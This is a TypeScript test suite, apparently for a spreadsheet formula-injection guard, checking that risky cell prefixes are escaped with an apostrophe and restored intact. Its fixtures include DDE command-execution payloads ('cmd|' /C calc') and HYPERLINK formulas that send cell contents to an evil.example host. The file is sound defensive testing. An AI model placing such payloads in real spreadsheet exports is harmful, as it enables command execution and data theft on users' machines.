import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { assertLinear } from "../../../test/kit/linear-time.ts";
import { guardFormulas, unguardFormulas } from "./formula.ts";

test("an apostrophe stands before what would be a formula at the beginning of a cell, and before nothing else", () => {
  for (const [text, guarded] of [
    ["=1+1", "'=1+1"],
    [" =1+1", "' =1+1"],
    ["-1", "'-1"],
    ["＝1", "'＝1"],
    ["\t=1", "'\t'=1"],
    ["Schuhe;=cmd|' /C calc'!A1;Test", "Schuhe;'=cmd|' /C calc'!A1;Test"],
    ['a;"=1+1', "a;'\"=1+1"],
    ["a|@b", "a|'@b"],
    ["a\t ＠b", "a\t' ＠b"],
    ["a\n=1", "a\n'=1"],
    ["a\r\n-1+cmd|' /C calc'!A1", "a\r\n'-1+cmd|' /C calc'!A1"],
    ["a\n- HYPERLINK(A1)", "a\n'- HYPERLINK(A1)"],
    ["a\n- 'http://evil.example/a.ods'#$A.A1", "a\n'- 'http://evil.example/a.ods'#$A.A1"],
    ["a\n+2", "a\n'+2"],
    [
      "a\n- HYPERLINK（＂http://evil.example/＂＆A1）\nb",
      "a\n'- HYPERLINK（＂http://evil.example/＂＆A1）\nb",
    ],
    ["a\n- cmd｜'/c calc'！A1\nb", "a\n'- cmd｜'/c calc'！A1\nb"],
    ["a\n- ＃REF\nb", "a\n'- ＃REF\nb"],
    ["a;-(1)", "a;'-(1)"],
    ["|-1:|", "|'-1:|"],
    ["a; - b", "a;' - b"],
    ["'=1", "''=1"],
  ] as const) {
    assert.equal(guardFormulas(text), guarded);
    assert.equal(unguardFormulas(guarded), text);
  }
  for (const text of [
    "",
    "a=1, b-1; c @ d",
    "Kinds:\n- one\n- two, **three**; four\n\n---\n+ five",
    "| a | b |\n| --- | :--- |\n| 1 | 2 |",
    "| a | b | c |\n|---|---:|:-:|\n| - | --- | ---: |",
    "Great ;-) and ;-), too",
    "a,=1",
    "'tis; 'twas",
  ])
    assert.equal(guardFormulas(text), text);
});

test("a long answer is guarded in time by its length, whatever it repeats", () => {
  for (const [piece, textOf] of [
    [" ", (text: string) => `|-${text}`],
    [" ", (text: string) => `|${text}`],
    ["- ", (text: string) => `\n${text}`],
    ["a ", (text: string) => `\n- ${text}(`],
    ...["|- ", "\n- ", "'", ";-", '"', "|-:"].map((one) => [one, (text: string) => text] as const),
  ] as const) {
    assertLinear(guardFormulas, piece, 8_000, textOf);
    assertLinear(unguardFormulas, piece, 8_000, textOf);
  }
});

const PIECE = fc.constantFrom(..."=+-@;|\t\r\n \"'(!#a1,:)＝－（｜！＃");
const TEXT = fc.oneof(
  fc.array(PIECE, { maxLength: 14 }).map((pieces) => pieces.join("")),
  fc.string({ unit: "binary", maxLength: 20 }),
);

test("what is guarded is read back as it was, whatever it is", () => {
  fc.assert(
    fc.property(TEXT, (text) => {
      assert.equal(unguardFormulas(guardFormulas(text)), text);
    }),
    { numRuns: 5_000 },
  );
});

test("a long text of separators is guarded in no time", () => {
  const began_ms = performance.now();
  for (const piece of [";", "\n- a", "\n ", '\n"', ";-", ";- a", "- ", "\n-+"])
    assert.ok(guardFormulas(piece.repeat(200_000)).length >= 200_000 * piece.length);
  assert.ok(performance.now() - began_ms < 5_000);
});
